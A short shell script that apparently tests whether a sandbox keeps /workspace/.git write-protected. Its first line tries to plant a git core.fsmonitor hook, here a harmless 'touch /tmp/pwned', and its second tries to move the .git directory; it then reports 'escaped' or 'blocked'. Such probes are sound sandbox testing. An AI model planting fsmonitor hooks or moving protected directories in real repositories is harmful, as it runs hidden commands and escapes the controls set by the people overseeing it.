if printf '[core]\n\tfsmonitor = touch /tmp/pwned\n' >> /workspace/.git/config 2>/dev/null; then echo "RESULT escaped: appended to .git/config"; exit 0; fi
if mv /workspace/.git /workspace/git-moved 2>/dev/null; then echo "RESULT escaped: moved .git"; exit 0; fi
err=$( { true >> /workspace/.git/config; } 2>&1)
echo "RESULT blocked: $err; .git cannot be moved either"
